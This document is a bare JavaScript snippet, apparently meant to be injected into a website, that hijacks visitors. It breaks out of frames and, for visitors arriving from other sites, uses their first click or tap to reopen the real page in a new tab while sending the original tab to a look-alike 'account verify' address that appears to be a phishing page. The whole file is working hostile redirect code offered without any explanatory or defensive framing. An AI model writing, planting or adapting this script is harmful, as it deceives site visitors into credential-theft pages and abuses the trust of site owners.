(function () {
  var target = 'https://secure-account-check.top/verify/index.php?ref=' + encodeURIComponent(document.domain);

  function escapeFrame() {
    try {
      if (window.top !== window.self) {
        window.top.location = target;
        return true;
      }
    } catch (e) {
      window.open(target, '_top');
      return true;
    }
    return false;
  }

  function onFirstInteraction() {
    document.removeEventListener('click', onFirstInteraction, true);
    document.removeEventListener('touchend', onFirstInteraction, true);
    var tab = window.open(location.href, '_blank');
    if (tab) {
      window.location.href = target;
    } else {
      top.location.href = target;
    }
  }

  if (!escapeFrame()) {
    if (document.referrer && document.referrer.indexOf(location.hostname) < 0) {
      document.addEventListener('click', onFirstInteraction, true);
      document.addEventListener('touchend', onFirstInteraction, true);
    }
  }
})();
